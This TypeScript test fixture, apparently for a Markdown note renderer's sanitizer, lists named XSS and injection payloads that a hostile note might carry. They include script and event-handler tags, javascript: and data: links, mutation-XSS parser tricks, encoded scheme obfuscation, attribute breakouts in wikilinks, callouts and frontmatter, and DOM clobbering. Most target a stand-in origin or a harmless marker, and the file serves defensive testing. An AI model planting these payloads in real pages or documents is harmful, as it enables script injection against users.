/** Another origin: any request to it is a stranger's doing. */
export const ENEMY = 'http://enemy.invalid';

/** One thing that a hostile note tries. */
export interface Attack {
  name: string;
  markdown: string;
  /** Whether it works by itself when a page takes it as it stands: then it also proves that the tests would see it work. */
  works: boolean;
}

/** Code that leaves a trace in the page, from a frame inside it too. */
const strike = 'top.struck=(top.struck||0)+1';

/** HTML that a browser which takes it would act on at once. */
const working: Record<string, string> = {
  'script': `<script>${strike}</script>`,
  'script from elsewhere': `<script src="${ENEMY}/a.js"></script>`,
  'module from elsewhere': `<script type="module" src="${ENEMY}/a.mjs"></script>`,
  'image that fails': `<img src="nowhere.png" onerror="${strike}">`,
  'image that fails, without spaces or case': `<IMG/SRC="nowhere.png"/OnErRoR='${strike}'>`,
  'image from elsewhere': `<img src="${ENEMY}/a.png">`,
  'image set from elsewhere': `<img srcset="${ENEMY}/a.png 1x">`,
  'picture from elsewhere': `<picture><source srcset="${ENEMY}/a.png"><img alt=""></picture>`,
  'drawing that loads': `<svg onload="${strike}"></svg>`,
  'drawing with a script': `<svg><script>${strike}</script></svg>`,
  'drawing with a picture': `<svg><image href="${ENEMY}/a.png" width="9" height="9"/></svg>`,
  'drawing that moves': `<svg><animate onbegin="${strike}" attributeName="x" dur="1s"/></svg>`,
  'frame with an address of code': `<iframe src="javascript:${strike}"></iframe>`,
  'frame with a document': `<iframe srcdoc="<script>${strike}</script>"></iframe>`,
  'frame from elsewhere': `<iframe src="${ENEMY}/a.html"></iframe>`,
  'object from elsewhere': `<object data="${ENEMY}/a.html"></object>`,
  'embedded from elsewhere': `<embed src="${ENEMY}/a.html">`,
  'refresh': `<meta http-equiv="refresh" content="0;url=${ENEMY}/a.html">`,
  'another base': `<base href="${ENEMY}/"><img src="a.png">`,
  'style sheet from elsewhere': `<link rel="stylesheet" href="${ENEMY}/a.css">`,
  'hint to load': `<link rel="preload" as="image" href="${ENEMY}/a.png">`,
  'style that imports': `<style>@import url("${ENEMY}/a.css");</style>`,
  'style that loads': `<div style="background:url(${ENEMY}/a.png)">x</div>`,
  'field that takes the focus': `<input autofocus onfocus="${strike}">`,
  'list that takes the focus': `<select autofocus onfocus="${strike}"></select>`,
  'anything that takes the focus': `<p tabindex="0" autofocus onfocus="${strike}">x</p>`,
  'image button': `<input type="image" src="${ENEMY}/a.png">`,
  'details that toggle': `<details open ontoggle="${strike}">x</details>`,
  'film that fails': `<video><source src="nowhere.webm" onerror="${strike}"></video>`,
  'film with a picture': `<video poster="${ENEMY}/a.png"></video>`,
  'sound from elsewhere': `<audio src="${ENEMY}/a.ogg" autoplay></audio>`,
  'subtitles': `<video src="nowhere.webm"><track default src="${ENEMY}/a.vtt"></video>`,
  'body that loads': `<body onload="${strike}">`,
  'motion': `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${strike}">x</p>`,
  'table with a picture': `<table background="${ENEMY}/a.png"><tr><td>x</td></tr></table>`,
  'shadow': `<div><template shadowrootmode="open"><img src="nowhere.png" onerror="${strike}"></template></div>`,
  'unclosed tag': `<img src="nowhere.png" onerror="${strike}"\n`,
  'comment that ends early': `<!--><img src="nowhere.png" onerror="${strike}">-->`,
};

/** What needs a careless renderer, sanitizer or click to work. */
const careless: Record<string, string> = {
  'markup in an attribute, by way of math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${strike}&gt;">`,
  'markup in an attribute, by way of noscript': `<noscript><p title="</noscript><img src=x onerror=${strike}>"></noscript>`,
  'markup in an attribute, by way of a drawing': `<svg><style><a id="</style><img src=1 onerror=${strike}>"></style></svg>`,
  'text that runs': `<marquee onstart="${strike}" onbounce="${strike}">x</marquee>`,
  'form': `<form action="${ENEMY}/a" method="get"><button>press</button></form><input type="submit" formaction="${ENEMY}/b" value="press">`,
  'link that tells': `<a href="#x" ping="${ENEMY}/a">press</a>`,
  'link with code': `<a href="javascript:${strike}">press</a>`,
  'link with code, hidden': `<a href="&#x6A;ava&#9;script&colon;${strike}">press</a>`,
  'area with code': `<map name="m"><area href="javascript:${strike}" alt="press"></map>`,
  'drawing link with code': `<svg><a xlink:href="javascript:${strike}"><text y="20">press</text></a></svg>`,
  'handler': `<b onclick="${strike}" onpointerenter="${strike}" onmouseover="${strike}">press</b>`,
  'Markdown link with code': `[press](javascript:${strike})`,
  'Markdown link with code, by case and entities': `[press](JaVa&#115;cript:${strike}) [press](<java&#10;script:${strike}>) [press](&#x01;javascript:${strike})`,
  'Markdown link with data': `[press](data:text/html;base64,PHNjcmlwdD50b3Auc3RydWNrPTE8L3NjcmlwdD4=)`,
  'Markdown link with Basic': `[press](vbscript:${strike}) [press](blob:null/x) [press](filesystem:x) [press](view-source:x)`,
  'reference with code': `[press][r]\n\n[r]: javascript:${strike}`,
  'autolink with code': `<javascript:${strike}>`,
  'image with code': `![x](javascript:${strike}) ![x](data:text/html,<script>${strike}</script>)`,
  'Markdown image from elsewhere': `![x](${ENEMY}/a.png) ![x](//enemy.invalid/a.png)`,
  'title that breaks out': `[press](Other.md '" onmouseover="${strike}" x="') ![x](square.svg "' onload='${strike}")`,
  'alternative text that breaks out': `![" onerror="${strike}" x="](square.svg)`,
  'wikilink that breaks out': `[[Other" onmouseover="${strike}|<img src=x onerror=${strike}>]] [[<script>${strike}</script>]]`,
  'wikilink with code': `[[javascript:${strike}]] [[javascript:${strike}|press]]`,
  'embed that breaks out': `![[<img src=x onerror=${strike}>]] ![[square.svg|" onload="${strike}]]`,
  'code block whose language breaks out': `\`\`\`"onmouseover="${strike}"<img/src=x/onerror=${strike}>\nx\n\`\`\``,
  'code': `\`<img src=x onerror=${strike}>\``,
  'heading': `## <img src=x onerror=${strike}> " onclick="${strike}`,
  'callout': `> [!"onmouseover="${strike}] <svg onload=${strike}>\n> x\n\n> [!note|"><script>${strike}</script>] x`,
  'tag': `#tag"onclick="${strike} #<script>${strike}</script>`,
  'footnote': `x[^"onclick="${strike}] y[^<svg/onload=${strike}>]\n\n[^"onclick="${strike}]: x\n\n[^<svg/onload=${strike}>]: <svg onload=${strike}>`,
  'block id': `x ^a"onclick="${strike}`,
  'math': `$\\href{javascript:${strike}}{press}$ $$<img src=x onerror=${strike}>$$`,
  'diagram': `\`\`\`mermaid\ngraph LR\nA["<img src=x onerror=${strike}>"]\nclick A "javascript:${strike}"\n\`\`\``,
  'comment': `%%<script>${strike}</script>%%`,
  'table': `| <img src=x onerror=${strike}> | [[x\\|<svg onload=${strike}>]] |\n|---|---|\n| <script>${strike}</script> | x |`,
  'properties': '',
  'names that scripts look up': `<a id="open-vault" name="body">x</a> <img name="getElementById"> <form id="note" name="documentElement"></form>`,
};

const properties = (text: string): string => [
  '---',
  `aliases: ['<img src=x onerror=${strike}>']`,
  `tags: ['"onclick="${strike}', '<svg/onload=${strike}>']`,
  `cssclasses: ['x" onmouseover="${strike}', 'toasts', 'drop-overlay']`,
  `site: 'javascript:${strike}'`,
  `web: 'https://example.org/" onmouseover="${strike}'`,
  `up: '[[javascript:${strike}|press]]'`,
  `'<img src=x onerror=${strike}>': '<script>${strike}</script>'`,
  '---',
  text,
].join('\n');

export const attacks: Attack[] = [
  ...Object.entries(working).map(([name, markdown]) => ({ name, markdown, works: true })),
  ...Object.entries(careless).map(([name, markdown]) => ({
    name,
    markdown: name === 'properties' ? properties('Hostile above.') : markdown,
    works: false,
  })),
];
